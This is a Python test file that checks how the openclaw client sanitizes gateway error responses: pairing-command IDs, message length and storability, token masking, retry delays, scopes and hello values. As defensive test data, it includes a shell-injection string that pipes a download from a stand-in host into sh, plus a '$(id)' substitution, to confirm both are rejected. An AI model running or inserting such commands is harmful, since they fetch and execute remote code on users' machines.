"""Error responses of gateways are sanitized before they are shown, stored or copied."""

import pytest

from core.security.secrets import generate_token
from core.text import is_storable
from openclaw import ErrorKind, GatewayError, Hello, get_error_hint, get_error_values
from openclaw.capabilities import MIN_VERSION
from openclaw.errors import MAX_MESSAGE_LENGTH, MAX_RETRY_AFTER, parse_error

URL = "ws://gateway.example:18789"


def get_pairing_command(request_id: object) -> str | None:
    details = {"code": "PAIRING_REQUIRED", "requestId": request_id}
    error = parse_error({"code": "NOT_PAIRED", "message": "pair", "details": details})
    assert error.kind is ErrorKind.PAIRING_REQUIRED
    return get_error_hint(error, URL).command


def test_a_suggested_command_contains_only_valid_ids() -> None:
    command = get_pairing_command("1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed")
    assert command == "openclaw devices approve 1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed"
    for id in ("x; curl evil.example | sh", "$(id)", "a\nb", "x" * 101, "--all", "", 7, None):
        assert get_pairing_command(id) == "openclaw devices approve --latest", id


def test_values_for_texts_in_other_languages_are_those_that_are_known() -> None:
    common = {"host": "gateway.example", "port": "18789", "ours": "4"}
    mismatch = GatewayError(ErrorKind.PROTOCOL_MISMATCH, "No.", details={"expectedProtocol": 5})
    assert get_error_values(mismatch, URL) == common | {"spoken": "5", "newer": "5"}
    mismatch = GatewayError(ErrorKind.PROTOCOL_MISMATCH, "No.", details={"expectedProtocol": 3})
    older = {"spoken": "3", "minimum": MIN_VERSION}
    assert get_error_values(mismatch, URL) == common | older
    rejected = GatewayError(ErrorKind.REJECTED, "Not now.", code="INVALID_REQUEST")
    assert get_error_values(rejected, URL) == common | {"reply": "Not now."}
    assert get_error_values(GatewayError(ErrorKind.ADDRESS_INVALID, "No."), "x") == {"ours": "4"}


def test_error_messages_of_gateways_are_storable() -> None:
    error = parse_error({"code": "INVALID_REQUEST", "message": "No\0 \ud800" + "x" * 1_000})
    assert is_storable(error.message)
    assert is_storable(str(error))
    assert len(error.message) == MAX_MESSAGE_LENGTH
    assert is_storable(GatewayError(ErrorKind.REJECTED, "\0").message)


@pytest.mark.parametrize("kind", ["agent", "user", "browser", "invite", "password", "first"])
def test_our_tokens_are_masked_in_error_messages(kind: str) -> None:
    message = f"Exec denied: curl -H {generate_token(kind)}"
    error = parse_error({"code": "INVALID_REQUEST", "message": message})
    assert str(error) == error.message == f"Exec denied: curl -H mc_{kind}_***"
    long_message = "x" * (MAX_MESSAGE_LENGTH - 12) + " mc_agent_abcdefgh"
    assert "abc" not in GatewayError(ErrorKind.REJECTED, long_message).message


@pytest.mark.parametrize(
    ("retry_after_ms", "delay"),
    [
        (1_500, 1.5),
        (0, 0),
        (10**400, MAX_RETRY_AFTER),
        (float("inf"), MAX_RETRY_AFTER),
        (float("nan"), None),
        (-1, None),
        ("soon", None),
    ],
)
def test_the_retry_delay_of_a_gateway_is_limited(
    retry_after_ms: object, delay: float | None
) -> None:
    assert parse_error({"code": "UNAVAILABLE", "retryAfterMs": retry_after_ms}).retry_after == delay


def test_invalid_scopes_in_an_error_are_ignored() -> None:
    details = {"code": "MISSING_SCOPE", "requiredScopes": ["operator.read", "a b", "x" * 200, 7]}
    assert parse_error({"code": "FORBIDDEN", "details": details}).missing_scopes == [
        "operator.read"
    ]


def test_values_in_the_hello_of_a_gateway_are_storable() -> None:
    def parse_hello(version: str, token: str) -> Hello:
        payload = {"protocol": 4, "server": {"version": version}, "auth": {"deviceToken": token}}
        return Hello.parse(payload)

    parsed = parse_hello("2026.9.6", "secret")
    assert (parsed.version, parsed.device_token) == ("2026.9.6", "secret")
    assert is_storable(parse_hello("2026\0\ud800", "secret").version)
    assert parse_hello("1", "x" * 100_000).device_token == ""
    assert parse_hello("1", "half \ud800").device_token == ""
